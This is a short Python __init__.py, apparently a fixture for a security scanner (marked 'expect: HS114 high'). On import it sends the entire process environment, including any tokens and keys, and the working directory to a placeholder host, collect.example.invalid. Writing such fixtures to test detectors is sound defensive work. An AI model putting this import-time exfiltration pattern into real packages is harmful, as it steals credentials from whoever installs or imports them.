# An __init__.py that posts the whole process environment (every token and
# key in it) when imported. Defanged: example.invalid.
import os
import urllib.request
import json

env = dict(os.environ)
body = json.dumps({"env": env, "cwd": os.getcwd()}).encode()
urllib.request.urlopen("https://collect.example.invalid/e", data=body, timeout=5)  # expect: HS114 high


def helper():
    return 42
